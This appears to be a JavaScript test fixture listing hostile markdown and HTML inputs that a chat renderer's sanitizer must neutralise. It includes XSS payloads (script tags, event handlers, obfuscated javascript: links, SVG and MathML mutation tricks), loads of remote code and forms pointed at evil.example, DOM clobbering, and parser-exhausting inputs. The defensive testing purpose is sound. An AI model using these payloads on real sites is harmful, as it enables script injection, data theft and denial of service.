// Answers that try to run, load, style or leave. `mark` is a word of the answer that has to stay readable.
const E = 'https://evil.example';

export const hostile = [
  ['script', `Before <script>window.hacked=1</script><script src="${E}/x.js"></script> after`],
  ['event handlers', `<p onclick="hacked=1" onmouseover="hacked=1">Hover me</p><body onload="hacked=1"><details open ontoggle="hacked=1"><summary>x</summary></details> after`],
  ['images', `![a](${E}/pixel.png) ![b](data:image/svg+xml;base64,PHN2Zy8+) <img src=${E}/i.png onerror="hacked=1"> <img srcset="${E}/s.png 2x"> <picture><source srcset="${E}/p.png"></picture> after`],
  ['links', `[j](javascript:hacked=1) [J](JaVaScRiPt:hacked=1) [t](java\tscript:hacked=1) [e](&#106;avascript:hacked=1) [d](data:text/html,<script>hacked=1</script>) [v](vbscript:x) [f](file:///etc/passwd) [b](blob:${E}/1) [p](//evil.example/x) [r](/chat) <a href="javascript:hacked=1">raw</a> <a href="\u0001javascript:hacked=1">raw</a> after`],
  ['svg', `<svg onload="hacked=1"><script>hacked=1</script><image href="${E}/svg.png"/><use href="${E}/u.svg#a"/><animate onbegin="hacked=1" attributeName=x dur=1s></svg> after`],
  ['math and mutation', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;"> after\n\n<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hacked=1 src>">`],
  ['style', `<style>body{display:none}@import "${E}/s.css";</style><link rel=stylesheet href=${E}/l.css><div style="position:fixed;inset:0;background:url(${E}/bg.png)">cover</div> <p class="primary" id="send">after</p>`],
  ['frames and forms', `<iframe src="${E}" srcdoc="<script>parent.hacked=1</script>"></iframe><object data="${E}/o"></object><embed src="${E}/e"><form action="${E}"><input name=key autofocus onfocus="hacked=1"><button formaction="javascript:hacked=1">Go</button></form><video src="${E}/v.mp4" autoplay></video><audio src="${E}/a.mp3"></audio> after`],
  ['meta and base', `<meta http-equiv="refresh" content="0;url=${E}"><base href="${E}/"><link rel="prefetch" href="${E}/pre"><link rel="dns-prefetch" href="//evil.example"> after`],
  ['clobbering', `<a id="cookie"></a><form id="app"><input name="hidden"></form><img name="getElementById"> <a id="message" href="cid:x">x</a> after`],
  ['broken markdown', '**bold _and [link](<http://a b `code ~~~\n```js\nnever closed\n| a | b\n|--\n> > > - 1. # \\\n\n[x]: javascript:hacked=1\n[x]\n\n<p <b after'],
  ['entities and templates', `&lt;script&gt;hacked=1&lt;/script&gt; \${hacked=1} {{constructor.constructor('hacked=1')()}} <template><script>hacked=1</script></template> <xmp><img src=x onerror=hacked=1></xmp> after`],
  ['reference images', `![x][1]\n\n[1]: ${E}/ref.png "onerror=hacked=1"\n\n<a href="https://good.example" target="_self" rel="opener" ping="${E}/ping">good</a> after`],
  ['deep nesting', `${'>'.repeat(6000)} after`],
  ['deep lists', `${Array.from({ length: 400 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n')}\n\nafter`],
  ['many brackets', `${'['.repeat(20000)} ${'*a **b '.repeat(3000)} after`],
  ['unclosed code', `${'`a'.repeat(25_000)} after`],
  ['unclosed emphasis', `${'***a'.repeat(12_000)} after`],
  ['nested numbers', `${'1. '.repeat(18_000)} after`],
  ['paragraphs of stars', `${`${'*a **b '.repeat(690)}\n\n`.repeat(12)} after`],
  ['paragraphs of code', `${`${'`a'.repeat(2400)}\n\n`.repeat(12)} after`],
  ['beginnings of addresses', `${'http'.repeat(14_000)} after`],
  ['backslashes and bangs', `${'\\'.repeat(25_000)} ${'!'.repeat(25_000)} after`],
  ['huge', `${'<b onclick=hacked=1>x</b> ![i](https://evil.example/h.png) '.repeat(6000)} after`],
].map(([name, markdown]) => ({ name, markdown, mark: 'after' }));
